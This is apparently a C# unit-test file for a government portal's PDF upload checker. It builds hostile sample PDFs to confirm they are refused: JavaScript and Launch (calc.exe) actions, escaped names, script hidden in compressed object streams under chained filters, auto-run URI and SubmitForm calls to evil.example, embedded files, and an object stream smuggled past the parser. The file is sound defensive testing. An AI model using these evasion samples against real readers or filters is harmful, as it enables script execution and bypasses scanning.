using System.IO.Compression;
using System.Text;
using Supervision.Domain.Common;
using Supervision.Domain.Files;
using Supervision.Reports.Documents;

namespace Supervision.Tests.Domain.Files;

/// <summary>
/// A PDF that runs script or carries files is refused however it spells or hides the name: #xx escapes, compressed object
/// streams (with or without /Type), several filters; what cannot be looked into is refused too.
/// </summary>
public class PdfContentTests
{
    private static byte[] Ascii(string text) => Encoding.Latin1.GetBytes(text);

    private static string Refused(byte[] pdf) => Assert.Throws<DomainException>(() => PdfContent.Check("证据.pdf", pdf)).Code;

    private static byte[] Deflate(byte[] data)
    {
        using var output = new MemoryStream();
        using (var zlib = new ZLibStream(output, CompressionLevel.Optimal, leaveOpen: true)) zlib.Write(data);
        return output.ToArray();
    }

    private static byte[] AsciiHex(byte[] data) => Encoding.ASCII.GetBytes(Convert.ToHexString(data) + ">");

    private static byte[] Ascii85(byte[] data)
    {
        var text = new StringBuilder();
        for (var i = 0; i < data.Length; i += 4)
        {
            var take = Math.Min(4, data.Length - i);
            uint value = 0;
            for (var k = 0; k < 4; k++) value = value << 8 | (k < take ? data[i + k] : 0u);
            var digits = new char[5];
            for (var k = 4; k >= 0; k--) { digits[k] = (char)('!' + value % 85); value /= 85; }
            text.Append(digits, 0, take + 1);
        }
        return Encoding.ASCII.GetBytes(text.Append("~>").ToString());
    }

    /// <summary>A PDF whose object 5 lives in an object stream (encoded as given); the catalog opens it as its action.</summary>
    private static byte[] WithObjectStream(string object5, string dictionary = "/Type /ObjStm", string filter = "/Filter /FlateDecode", Func<byte[], byte[]>? encode = null,
        string trailer = "")
    {
        const string header = "5 0 ";
        var data = (encode ?? Deflate)(Encoding.ASCII.GetBytes(header + object5));
        var pdf = new MemoryStream();
        pdf.Write(Ascii("%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n"));
        pdf.Write(Ascii($"3 0 obj << {dictionary} /N 1 /First {header.Length} {filter} /Length {data.Length} >>\nstream\n"));
        pdf.Write(data);
        pdf.Write(Ascii($"\nendstream\nendobj\ntrailer << /Root 1 0 R {trailer}>>\n%%EOF\n"));
        return pdf.ToArray();
    }

    [Fact]
    public void A_pdf_the_portal_renders_itself_passes()
    {
        var pdf = OfficialDocumentRenderer.Render(new OfficialDocument("现场检查记录").Paragraph("检查情况：符合。").SignedBy("宁夏回族自治区通信管理局", new DateOnly(2026, 11, 28)));
        PdfContent.Check("记录.pdf", pdf);
        PdfContent.Check("记录.pdf", WithObjectStream("<< /Type /Page /Parent 2 0 R >>"));
    }

    [Fact]
    public void Javascript_in_a_dictionary_is_refused_also_when_its_name_is_escaped()
    {
        Assert.Equal(PdfContent.ScriptCode, Refused(Ascii("%PDF-1.7\n1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF")));
        Assert.Equal(PdfContent.ScriptCode, Refused(Ascii("%PDF-1.7\n1 0 obj << /Type /Catalog /OpenAction << /S /J#61vaScr#69pt /JS (x) >> >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF")));
        // The other ways to run script or a program: a rendition action with a script, an XFA form, a Launch action.
        foreach (var action in new[] { "<< /S /Rendition /JS (x) >>", "<< /S /Launch /F (calc.exe) >>" })
            Assert.Equal(PdfContent.ScriptCode, Refused(Ascii($"%PDF-1.7\n1 0 obj << /Type /Catalog /OpenAction {action} >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF")));
        Assert.Equal(PdfContent.ScriptCode, Refused(Ascii("%PDF-1.7\n1 0 obj << /Type /Catalog /AcroForm << /XFA 4 0 R >> >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF")));
    }

    [Fact]
    public void Actions_that_run_by_themselves_and_reach_outside_are_refused_but_clicked_links_are_not()
    {
        foreach (var action in new[] { "<< /S /URI /URI (http://evil.example/track) >>", "<< /S /SubmitForm /F (http://evil.example/) >>",
                     "<< /S /GoToR /F (\\\\host\\share\\x.pdf) /D [0 /Fit] >>", "<< /S /GoToE /T << /R /C /N (x) >> >>", "<< /S /ImportData /F (data.fdf) >>" })
            Assert.Equal(PdfContent.ActionCode, Refused(Ascii($"%PDF-1.7\n1 0 obj << /Type /Catalog /OpenAction {action} >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF")));
        // By reference, in a compressed object stream.
        var e = Assert.Throws<DomainException>(() => PdfContent.Check("证据.pdf", WithObjectStream("<< /S /URI /URI (http://evil.example/) >>")));
        Assert.Equal((PdfContent.ActionCode, true), (e.Code, e.Message.Contains("/URI")));
        // A page's action on opening, second in a /Next chain, with its type's name escaped.
        Assert.Equal(PdfContent.ActionCode, Refused(Ascii("%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [4 0 R] /Count 1 >> endobj\n"
            + "4 0 obj << /Type /Page /Parent 2 0 R /AA << /O 6 0 R >> >> endobj\n6 0 obj << /S /GoTo /D [4 0 R /Fit] /Next [7 0 R] >> endobj\n"
            + "7 0 obj << /S /Subm#69tForm /F (http://evil.example/) >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF")));
        // Opening at a page and a link to a web page the reader may click: an ordinary PDF.
        PdfContent.Check("通知.pdf", Ascii("%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction [4 0 R /Fit] >> endobj\n2 0 obj << /Type /Pages /Kids [4 0 R] /Count 1 >> endobj\n"
            + "4 0 obj << /Type /Page /Parent 2 0 R /Annots [5 0 R] /AA << /O << /S /GoTo /D [4 0 R /Fit] >> >> >> endobj\n"
            + "5 0 obj << /Type /Annot /Subtype /Link /A << /S /URI /URI (https://www.miit.gov.cn/) >> >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF"));
    }

    [Fact]
    public void Javascript_hidden_in_a_compressed_object_stream_is_found()
    {
        var pdf = WithObjectStream("<< /S /JavaScript /JS (app.alert\\(1\\)) >>");
        Assert.DoesNotContain("JavaScript", Encoding.Latin1.GetString(pdf));
        var e = Assert.Throws<DomainException>(() => PdfContent.Check("证据.pdf", pdf));
        Assert.Equal(PdfContent.ScriptCode, e.Code);
        Assert.Contains("证据.pdf", e.Message);
        Assert.Contains("JavaScript", e.Message);

        // A reader uses a stream with /First and /N as an object stream whatever its /Type says; so does the check.
        Assert.Equal(PdfContent.ScriptCode, Refused(WithObjectStream("<< /S /JavaScript /JS (x) >>", dictionary: "")));
        // Filters chained or spelled short are decoded too.
        Assert.Equal(PdfContent.ScriptCode, Refused(WithObjectStream("<< /S /JavaScript /JS (x) >>", filter: "/Filter [/AHx /Fl]", encode: d => AsciiHex(Deflate(d)))));
        Assert.Equal(PdfContent.ScriptCode, Refused(WithObjectStream("<< /S /JavaScript /JS (x) >>", filter: "/Filter /ASCII85Decode", encode: Ascii85)));
        Assert.Equal(PdfContent.ScriptCode, Refused(WithObjectStream("<< /S /JavaScript /JS (x) >>", filter: "", encode: d => d)));
    }

    [Fact]
    public void Embedded_files_and_file_attachments_are_refused()
    {
        Assert.Equal(PdfContent.EmbeddedFileCode, Refused(Supervision.Tests.Web.Hostile.HostileFiles.PdfWithEmbeddedFile()));
        Assert.Equal(PdfContent.EmbeddedFileCode, Refused(WithObjectStream("<< /Type /Annot /Subtype /FileAttachment /FS 6 0 R >>")));
    }

    [Fact]
    public void What_cannot_be_looked_into_is_refused()
    {
        // An object stream under a filter the check does not decode, or with a predictor that scrambles its bytes.
        Assert.Equal(PdfContent.UninspectableCode, Refused(WithObjectStream("<< /Type /Page >>", filter: "/Filter /LZWDecode", encode: d => d)));
        Assert.Equal(PdfContent.UninspectableCode, Refused(WithObjectStream("<< /Type /Page >>", filter: "/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 4 >>")));
        // Encrypted: its object streams are ciphertext.
        Assert.Equal(PdfContent.UninspectableCode, Refused(WithObjectStream("<< /Type /Page >>", trailer: "/Encrypt 9 0 R ")));
        // Broken compressed data.
        Assert.Equal(PdfContent.UninspectableCode, Refused(WithObjectStream("<< /Type /Page >>", encode: d => [0x78, 0x9C, .. d])));
        // An object stream the walk never reaches, because an earlier stream claims its bytes: the file names more object
        // streams than were decoded.
        var hidden = WithObjectStream("<< /S /JavaScript /JS (x) >>");
        var text = Encoding.Latin1.GetString(hidden);
        var at = text.IndexOf("3 0 obj", StringComparison.Ordinal);
        var cover = Ascii($"4 0 obj << /Length {hidden.Length - at + 20} >>\nstream\n");
        var smuggled = Encoding.Latin1.GetBytes(text[..at]).Concat(cover).Concat(hidden.Skip(at)).ToArray();
        Assert.Equal(PdfContent.UninspectableCode, Refused(smuggled));
    }

    [Fact]
    public void The_evidence_rule_checks_pdfs_and_the_name_against_the_content()
    {
        var js = Supervision.Tests.Web.Hostile.HostileFiles.PdfWithJavaScript();
        Assert.Equal(PdfContent.ScriptCode, Assert.Throws<DomainException>(() => EvidenceFiles.Check("整改报告.pdf", js)).Code);
        var e = Assert.Throws<DomainException>(() => EvidenceFiles.Check("现场照片.jpg", Supervision.Tests.Web.Hostile.HostileFiles.Pdf()));
        Assert.Equal(StoredFile.ExtensionMismatchCode, e.Code);
        Assert.Contains("PDF文件", e.Message);
        Assert.Contains(".jpg", e.Message);
        Assert.Equal("image/jpeg", EvidenceFiles.Check("现场照片.JPEG", Supervision.Tests.Web.Hostile.HostileFiles.Jpeg()));
    }
}
